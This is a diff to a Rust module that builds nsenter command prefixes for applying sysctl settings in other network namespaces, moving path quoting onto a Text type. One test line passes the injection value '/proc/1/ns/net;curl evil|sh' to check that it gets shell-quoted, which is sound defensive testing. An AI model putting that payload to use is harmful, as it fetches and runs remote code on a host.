@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT OR Apache-2.0
 //! Where a setting has to be written: sysctls are per network namespace, and a command must be safe to paste here.
 
-use crate::{aggregate::observed::Observed, kernel::rules::Sysctls, outside};
+use crate::{aggregate::observed::Observed, kernel::rules::Sysctls, outside::Text};
 
 /// One network namespace, seen from the shell that will run the fix.
 pub(crate) struct NetnsShell {
@@ -17,9 +17,9 @@ impl NetnsShell {
     pub(super) fn of(observed: &Observed, own: &Sysctls, netns: u32, pid: Option<u32>) -> Self {
         let is_own = own.netns.is_none_or(|own| own == netns);
         let known = observed.spaces.get(&netns);
-        let prefix = match (is_own, known.and_then(|space| space.entrance.as_deref()), pid) {
+        let prefix = match (is_own, known.and_then(|space| space.entrance.as_ref()), pid) {
             (true, ..) => Some(String::new()),
-            (false, Some(entrance), _) => Some(format!("nsenter --net={} ", outside::shell_word(entrance))),
+            (false, Some(entrance), _) => Some(format!("nsenter --net={} ", entrance.shell_word())),
             (false, None, Some(pid)) => Some(format!("nsenter -t {pid} -n ")),
             (false, None, None) => None,
         };
@@ -28,9 +28,8 @@ impl NetnsShell {
     }
 
     /// With a file by which nsenter(1) gets there; `None`: the shell is there already.
-    pub(crate) fn behind(netns: u32, entrance: Option<&str>, sysctls: Sysctls) -> Self {
-        let prefix =
-            entrance.map_or_else(String::new, |entrance| format!("nsenter --net={} ", outside::shell_word(entrance)));
+    pub(crate) fn behind(netns: u32, entrance: Option<&Text>, sysctls: Sysctls) -> Self {
+        let prefix = entrance.map_or_else(String::new, |entrance| format!("nsenter --net={} ", entrance.shell_word()));
         Self { netns, prefix: Some(prefix), sysctls }
     }
 
@@ -60,7 +59,7 @@ mod tests {
         let shell = |netns, pid| NetnsShell::of(&observed, &own, netns, pid);
         assert_eq!((shell(1, None).command("x"), shell(1, None).sysctls.tcp_tw_reuse), ("x".into(), Some(2)));
         assert_eq!(shell(2, Some(9)).command("x"), "nsenter --net=/run/netns/blue x");
-        let edited = NetnsShell::behind(2, Some("/proc/1/ns/net;curl evil|sh"), Sysctls::default());
+        let edited = NetnsShell::behind(2, Some(&"/proc/1/ns/net;curl evil|sh".into()), Sysctls::default());
         assert_eq!(edited.command("x"), "nsenter --net='/proc/1/ns/net;curl evil|sh' x");
         assert_eq!(shell(2, None).sysctls.tcp_tw_reuse, Some(0));
         assert_eq!(shell(3, Some(9)).command("x"), "nsenter -t 9 -n x");
